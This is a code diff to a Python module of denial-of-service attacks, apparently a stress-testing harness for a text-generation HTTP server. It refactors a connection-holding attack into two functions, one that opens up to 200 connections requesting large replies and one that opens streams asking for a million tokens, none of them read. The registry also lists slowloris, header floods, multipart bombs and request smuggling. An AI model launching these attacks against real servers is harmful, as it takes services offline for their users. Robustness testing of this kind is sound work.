@@ -97,17 +97,25 @@ def header_flood(attacker: Attacker) -> None:
     _repeat(attacker, b"GET / HTTP/1.1\r\n" + attacker.head + fields, 0.05)
 
 
-def never_read(attacker: Attacker) -> None:
-    """200 connections that ask for a large reply twenty times, and 4 streams, all unread."""
+def _unread(attacker: Attacker, count: int, data: bytes) -> None:
     held: list[socket.socket] = []
-    get = b"GET /openapi.json HTTP/1.1\r\n" + attacker.head + b"\r\n"
-    body = json.dumps({"inputs": "The ", "parameters": {"max_new_tokens": 1_000_000}}).encode()
-    post = b"POST /generate_stream HTTP/1.1\r\n" + attacker.head
-    post += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
     while attacker.goes_on(0.1):
-        if len(held) < 204 and (new := attacker.open()) is not None:
-            send(new, get * 20 if len(held) >= 4 else post + body)
+        if len(held) < count and (new := attacker.open()) is not None:
+            send(new, data)
             held.append(new)
+
+
+def unread_replies(attacker: Attacker) -> None:
+    """10 connections a second that ask for a large reply twenty times and read nothing."""
+    _unread(attacker, 200, (b"GET /openapi.json HTTP/1.1\r\n" + attacker.head + b"\r\n") * 20)
+
+
+def unread_streams(attacker: Attacker) -> None:
+    """4 streams of a million characters of which nothing is read."""
+    body = json.dumps({"inputs": "The ", "parameters": {"max_new_tokens": 1_000_000}}).encode()
+    head = b"POST /generate_stream HTTP/1.1\r\n" + attacker.head
+    head += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
+    _unread(attacker, 4, head + body)
 
 
 def multipart_bomb(attacker: Attacker) -> None:
@@ -156,7 +164,8 @@ ATTACKS: dict[str, Callable[[Attacker], None]] = {
         slowloris,
         idle,
         header_flood,
-        never_read,
+        unread_replies,
+        unread_streams,
         multipart_bomb,
         pipelining,
         smuggling,
